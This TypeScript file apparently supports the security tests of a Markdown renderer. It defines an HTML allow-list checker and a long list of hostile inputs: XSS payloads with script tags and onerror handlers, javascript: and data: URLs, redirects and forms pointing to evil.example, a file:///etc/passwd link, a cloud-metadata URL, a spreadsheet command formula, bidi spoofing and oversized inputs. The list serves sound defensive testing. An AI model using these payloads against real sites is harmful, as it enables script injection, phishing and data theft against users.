import { parseFragment, serialize } from 'parse5'
import type { DefaultTreeAdapterTypes } from 'parse5'

const NUMBER = /^-?\d+(?:\.\d+)?$/
const COLOUR = /^(?:var\(--(?:sea|signal|rule)\)|none|currentColor)$/
const ANY = /^[^\p{Cc}\u202A-\u202E\u2066-\u2069]*$/u
/** Elements allowed in a content's text, with a pattern for each attribute. */
const ALLOWED: Readonly<Record<string, Readonly<Record<string, RegExp>>>> = {
  p: {},
  ul: {},
  li: {},
  blockquote: {},
  strong: {},
  em: {},
  del: {},
  code: {},
  pre: {},
  hr: {},
  br: {},
  table: {},
  thead: {},
  tbody: {},
  tr: {},
  figcaption: {},
  details: {},
  summary: {},
  g: {},
  ol: { start: /^\d{1,9}$/ },
  th: { align: /^(?:left|right|center)$/ },
  td: { align: /^(?:left|right|center)$/ },
  a: { href: /^(?:https?:\/\/[^/]|\/(?![/\\])|\/$|#s-)/i, title: ANY, rel: /^nofollow noopener$/ },
  img: {
    src: /^\/(?![/\\]|mapi\/)[^?#]*\.(?:avif|gif|jpe?g|png|webp)$/i,
    alt: ANY,
    title: ANY,
    srcset: /^(?:\/files\/[0-9a-f]{40}-\d{3}\.webp \d{3}w(?:, )?)+$/,
    sizes: /^\(min-width: 48rem\) 45rem, 100vw$/,
    width: NUMBER,
    height: NUMBER,
    loading: /^lazy$/,
  },
  aside: { class: /^callout$/, 'data-kind': /^(?:tip|warning|example)$/ },
  div: {
    class: /^live$/,
    'data-live': /^(?:convert|rate|hs)$/,
    'data-group': /^[a-z]+$/,
    'data-value': NUMBER,
    'data-code': /^\d{4,6}$/,
    'data-from': /^[\w.]+$/,
    'data-to': /^[\w.]+$/,
    'data-from-name': ANY,
    'data-to-name': ANY,
  },
  figure: { class: /^chart$/ },
  svg: { viewBox: /^0 0 360 \d+(?:\.\d)?$/, role: /^img$/, 'aria-label': ANY, fill: COLOUR, 'font-size': NUMBER },
  rect: { x: NUMBER, y: NUMBER, width: NUMBER, height: NUMBER, rx: NUMBER, fill: COLOUR },
  circle: { cx: NUMBER, cy: NUMBER, r: NUMBER, fill: COLOUR },
  path: { d: /^M[\d.-]+ [\d.-]+H360$/, stroke: COLOUR },
  polyline: {
    points: /^[\d., -]+$/,
    fill: COLOUR,
    stroke: COLOUR,
    'stroke-width': NUMBER,
    'stroke-dasharray': /^6 3$/,
  },
  text: { x: NUMBER, y: NUMBER, 'text-anchor': /^(?:start|middle|end)$/ },
  ...Object.fromEntries(['h2', 'h3', 'h4', 'h5', 'h6'].map((name) => [name, { id: /^s-[\p{L}\p{M}\p{N}-]+$/u }])),
}

/** Elements and attributes in HTML that are not allowed, as a browser parses it. */
export function findHtmlBreaches(html: string): string[] {
  const found: string[] = []
  const ids = new Set<string>()
  const walk = (node: DefaultTreeAdapterTypes.Node): void => {
    if (node.nodeName === '#comment' || node.nodeName === '#documentType') found.push(node.nodeName)
    if (
      node.nodeName === '#text' &&
      'value' in node &&
      !/^[^\p{Cc}\u202A-\u202E\u2066-\u2069]*$/u.test(node.value.replaceAll(/[\n\t]/g, ''))
    )
      found.push(`text ${JSON.stringify(node.value)}`)
    if ('tagName' in node) {
      const allowed = Object.hasOwn(ALLOWED, node.tagName) ? ALLOWED[node.tagName] : undefined
      if (!allowed) found.push(`<${node.tagName}>`)
      for (const { name, value } of node.attrs) {
        const form = allowed && Object.hasOwn(allowed, name) ? allowed[name] : undefined
        if (!form?.test(value)) found.push(`<${node.tagName} ${name}="${value}">`)
        if (name === 'id' && ids.has(value)) found.push(`id ${value} twice`)
        if (name === 'id') ids.add(value)
      }
      const href = node.attrs.find(({ name }) => name === 'href')?.value ?? ''
      // URLs are resolved as in a browser: own paths stay on the site, other sites get no referrer.
      if (
        href !== '' &&
        new URL(href, 'https://own.example').origin !== 'https://own.example' &&
        !node.attrs.some(({ name }) => name === 'rel')
      )
        found.push(`${href} without rel`)
    }
    if ('childNodes' in node) node.childNodes.forEach(walk)
  }
  const tree = parseFragment(html)
  walk(tree)
  // HTML that a browser would rearrange was not closed properly.
  const again = serialize(tree)
  if (serialize(parseFragment(again)) !== again) found.push('changes when it is read again')
  return found
}

const code = (name: string, text: string) => `\`\`\`${name}\n${text}\n\`\`\``
/** A Markdown block of type `tool`. */
export const tool = (text: string) => code('tool', text)
const chart = (...lines: string[]) => code('chart', lines.join('\n'))
const POINTS = ['年,值', 'a,1', 'b,2']

/** Markdown texts that try to run code, mislead or break out of their place, each with its attempt. */
export const ATTACKS: readonly (readonly [what: string, markdown: string])[] = [
  // Attacks with plain HTML in the text.
  ['script', '<script>alert(1)</script>'],
  ['script over lines', '<script>\nalert(1)\n</script>'],
  ['script in a paragraph', '字 <script src=//e.example></script> 字'],
  ['image with a handler', '<img src=x onerror=alert(1)>'],
  ['broken image', '<img src=x onerror=alert(1)//'],
  ['svg with a handler', '<svg onload=alert(1)>'],
  ['svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['iframe', '<iframe srcdoc="<script>alert(1)</script>">'],
  ['style', '<style>body{display:none}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0">x</p>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example">'],
  ['form', '<form action=//evil.example><input name=phone></form>'],
  ['button of another form', '<button form=login formaction=//evil.example>登录</button>'],
  ['comment', '<!-- <script>alert(1)</script> -->'],
  ['comment that ends early', '<!--> <img src=x onerror=alert(1)> -->'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
  ['processing instruction', '<?php alert(1) ?>'],
  ['declaration', '<!DOCTYPE html [<!ENTITY x "y">]>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['textarea', '<textarea></textarea><img src=x onerror=alert(1)>'],
  ['title that ends', '</title><script>alert(1)</script>'],
  ['end of the page', '</div></article></main></body></html><script>alert(1)</script>'],
  ['details that opens itself', '<details open ontoggle=alert(1)>'],
  ['video', '<video><source onerror=alert(1)></video>'],
  ['link of a sheet', '<link rel=stylesheet href=//evil.example>'],
  ['object', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['custom element', '<x-y onclick=alert(1)>x</x-y>'],
  ['upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['slash for a blank', '<img/src/onerror=alert(1)>'],
  ['new line in a tag', '<img\nsrc=x\nonerror=alert(1)>'],
  ['nul in a tag', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['html in emphasis', '**<img src=x onerror=alert(1)>**'],
  ['html in a list', '- <script>alert(1)</script>\n  <b>'],
  ['html in a quote', '> <iframe src=//evil.example>'],
  ['html in code', '`<script>alert(1)</script>`'],
  ['html in a fence', code('', '</code></pre><script>alert(1)</script>')],
  ['html as the name of a fence', code('"><script>alert(1)</script>', 'x')],
  ['a class as the name of a fence', code('a&#32;fixed&#32;inset-0', 'x')],
  ['our own mark as the name of a fence', code('tool"&#32;data-line="1', 'convert 5 lb kg')],
  ['our own block as text', '<pre><code data-block="tool" data-line="1">hs 8517</code></pre>'],
  ['our own block in code', '`<pre><code data-block="chart" data-line="1">x</code></pre>`'],
  // Attacks with HTML entities.
  ['script of entities', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['script of numbers', '&#60;script&#62;alert(1)&#60;/script&#62;'],
  ['script of hex numbers', '&#x3C;img src=x onerror=alert(1)&#x3E;'],
  ['entity twice', '&amp;lt;script&amp;gt;'],
  ['entity without an end', '&ltscript&gt alert(1)'],
  ['nul as an entity', '&#0;<script&#0;>'],
  ['direction as an entity', 'a&#x202E;gpj.exe&#x2066;b'],
  ['quote mark in a title', '[a](https://a.example "x&quot; onclick=&quot;alert(1)")'],
  // Attacks with URLs.
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61vascript:alert(1)',
    'javascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
    '%6Aavascript:alert(1)',
    'vbscript:x',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'file:///etc/passwd',
    'blob:https://own.example/x',
    'about:blank',
    'intent://x#Intent;end',
    'tel:110',
    'mailto:a@evil.example',
    'sms:110',
    'view-source:https://a.example',
    '//evil.example',
    '///evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/&#9;/evil.example',
    '/%09/evil.example',
    'https:evil.example',
    'http:/evil.example',
    'https://',
    'ftp://evil.example',
    '..//evil.example',
    '?x=//evil.example',
    '#root',
    '#__proto__',
    '#s-none',
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    'https://a.example/"><script>',
    'https://a.example/<script>',
  ].map((href) => [`link to ${href}`, `[a](<${href.replaceAll('<', '\\<').replaceAll('>', '\\>')}>)`] as const),
  ['autolink of a script', '<javascript:alert(1)>'],
  ['autolink of data', '<data:text/html,x>'],
  ['autolink of a mail address', '<a@evil.example>'],
  ['reference to a script', '[a][b]\n\n[b]: javascript:alert(1)'],
  ['reference with a title', "[a]\n\n[a]: https://a.example '\"><script>alert(1)</script>'"],
  ['reference defined twice', '[a]\n\n[a]: /x\n[a]: javascript:alert(1)'],
  ['reference named like a prototype', '[__proto__]\n\n[__proto__]: javascript:alert(1)'],
  ['reference that is a callout', '> [!提示]\n> x\n\n[!提示]: javascript:alert(1)'],
  ['link in a link', '[a [b](javascript:alert(1)) c](https://a.example)'],
  ['link around a picture of elsewhere', '[![x](https://e.example/"onerror=1)](https://a.example)'],
  ['link in a heading', '# [a](javascript:alert(1))'],
  // Attacks in pictures.
  ...[
    'javascript:alert(1)',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'https://evil.example/pixel.png',
    '//evil.example/pixel.png',
    '/mapi/accounts/me',
    '/mapi/x.png',
    '/x.svg',
    '/x.png?a=1',
    '/x.png#.svg',
    '/x.png" onerror="alert(1)',
    '/\\evil.example/x.png',
    'http://169.254.169.254/x.png',
  ].map((src) => [`picture of ${src}`, `![a](<${src.replaceAll('<', '\\<').replaceAll('>', '\\>')}>)`] as const),
  ['words of a picture', '![" onerror="alert(1)](/x.png)'],
  ['title of a picture', '![a](/x.png \'" onerror="alert(1)\')'],
  ['a picture in a tag', '![<img src=x onerror=alert(1)>](/x.png)'],
  // Attacks in headings.
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '__proto__',
    'constructor',
    'body',
    'location',
    'root',
    '&quot; onclick=&quot;alert(1)',
    '\u202Exyz',
    '\u200B',
    '中\u200D文',
    '` `',
    '#',
    '😀',
    'a'.repeat(5000),
    '\uD800',
  ].map((words) => [`heading ${words.slice(0, 30)}`, `# ${words}\n\n## ${words}`] as const),
  ['a heading under a line', '<b onclick=alert(1)>\n==='],
  ['headings that collide', '# a\n\n# a\n\n# a-2\n\n# a 2\n\n# A'],
  // Attacks in quotes and callouts.
  ['end of a quote in its words', '> </blockquote><script>alert(1)</script>'],
  ['html in a callout', '> [!提示]\n> <script>alert(1)</script>'],
  ['html as a kind', '> [!<script>]\n> x'],
  [
    'callouts in one another',
    Array.from({ length: 19 }, (_, depth) => `${'>'.repeat(depth + 1)} [!注意]\n${'>'.repeat(depth + 1)}`).join('\n'),
  ],
  ['a callout that is never closed', '> [!示例]'],
  ['a callout of entities', '> &#91;!提示&#93;\n> x'],
  // Attacks in tables and lists.
  ['html in a table', '| <script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |'],
  ['entity of a bar in a table', '| a |\n|---|\n| &#124; <b onclick=x> | x | y |'],
  ['callout and heading in a table', '| a |\n|---|\n| > [!提示] # a |'],
  ['a list that starts far away', '999999999. a\n\n1000000000. b'],
  ['a task', '- [x] <input autofocus onfocus=alert(1)>'],
  ['struck html', '~~<script>alert(1)</script>~~'],
  // Attacks in tool blocks and charts.
  ['html in a tool', tool('<script>alert(1)</script>')],
  ['html as a unit', tool('convert 5 lb "><script>alert(1)</script>')],
  ['html as a number', tool('convert 5"onclick="x lb kg')],
  ['html as a currency', tool('rate USD "><script> 1')],
  ['html as a code', tool('hs 8517"><script>')],
  ['a tool of the prototype', tool('__proto__ 1 2')],
  ['a unit of the prototype', tool('convert 1 constructor toString')],
  ['an endless number', tool(`convert ${'9'.repeat(10_000)} lb kg`)],
  ['very many words', tool(`convert 1 ${'a '.repeat(20_000)}`)],
  ['lines of tools', tool('hs 8517\n</code></pre><script>alert(1)</script>')],
  ['a tool without an end', '```tool\nhs 8517\n<script>alert(1)</script>'],
  ['html as the title of a chart', chart('<script>alert(1)</script> | "><img src=x onerror=alert(1)>', ...POINTS)],
  ['html as a label', chart('题 | 元', '</text></svg><script>,"><b>', '<img src=x onerror=1>,1', 'b,2')],
  ['html as a label of lines', chart('题 | 元 | 线', '"onload="x,<style>', '</svg><script>,1', "'onclick=',2")],
  ['entities as a label', chart('&lt;script&gt; | &#60;', '&lt;,&gt;', '&quot;,1', '&#x202E;,2')],
  ['html as a number of a chart', chart('题 | 元', '年,值', 'a,1"onload="x', 'b,2')],
  ['numbers without an end', chart('题 | 元', '年,值', 'a,Infinity', 'b,NaN')],
  ['large numbers', chart('题 | 元 | 线', '年,值', 'a,999999999999', 'b,-999999999999')],
  ['numbers that are equal', chart('题 | 元 | 线', '年,值', 'a,0', 'b,-0')],
  ['a formula', chart('题 | 元', '年,值', "=cmd|' /C calc'!A0,1", 'b,2')],
  ['a form of the prototype', chart('题 | 元 | constructor', ...POINTS)],
  ['very many points', chart('题 | 元', '年,值', ...Array.from({ length: 10_000 }, () => 'a,1'))],
  [
    'a chart in a callout in a list',
    `- x\n\n  > [!提示]\n  > ${chart('<b> | 元', ...POINTS).replaceAll('\n', '\n  > ')}`,
  ],
  // Attacks with invisible characters, and with excessive amounts of everything.
  ['direction of words', '甲\u202Egpj.exe\u202C乙 \u2066x'],
  ['direction in a link', '[\u202Emoc.elgoog](https://evil.example/\u202E)'],
  ['zero width in a scheme', '[a](java\u200Bscript:alert(1))'],
  ['zero width in a tag', '<scr\u200Bipt>alert(1)</scr\u200Bipt>'],
  ['direction within our own mark', '> [!提\u202E示]\n> x'],
  ['controls', 'a\u0000b\u0008c\u001Bd\u007Fe\u0085f\u009Fg'],
  ['separators of lines', 'a\u2028<script>\u2029</script>'],
  ['half of a character', '\uD83D <script> \uDE00'],
  ['full-width html', '＜script＞alert(1)＜/script＞'],
  ['many quotes', '>'.repeat(5000)],
  ['many brackets', '['.repeat(20_000)],
  ['many marks', '*a_ '.repeat(10_000)],
  ['many headings', '# a\n\n'.repeat(2000)],
  ['many angles', '<'.repeat(50_000)],
  ['many entities', '&lt;'.repeat(20_000)],
  ['many fences', '```tool\n'.repeat(3000)],
]
